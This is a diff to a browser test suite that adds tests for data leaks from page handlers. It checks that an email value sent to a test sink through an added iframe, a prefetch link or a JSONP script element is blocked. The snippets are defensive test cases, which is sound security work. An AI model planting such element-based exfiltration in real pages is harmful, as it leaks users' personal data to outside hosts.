@@ -308,6 +308,31 @@ describe('other channels a page handler sends data by', function () {
     }) }));
   });
 
+  it('a frame the handler adds, its address carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const frame = document.createElement('iframe');
+      frame.src = sink.url(`/frame?email=${email()}`);
+      document.body.append(frame);
+    }) }));
+  });
+
+  it('a prefetch link the handler adds, its href carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const link = document.createElement('link');
+      link.rel = 'prefetch';
+      link.setAttribute('href', sink.url(`/next?email=${email()}`));
+      document.head.append(link);
+    }) }));
+  });
+
+  it('a script the handler adds (JSONP), its src carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => {
+      const script = document.createElement('script');
+      script.src = sink.url(`/jsonp.js?email=${email()}`);
+      document.head.append(script);
+    }) }));
+  });
+
   it("an image from another origin with no data in its address still loads (a CDN's picture)", async () => {
     const run = await attack({ page, setup: onSave(() => (new Image().src = sink.url('/photo.png'))) });
     expect(run.blocked).to.deep.equal([]);
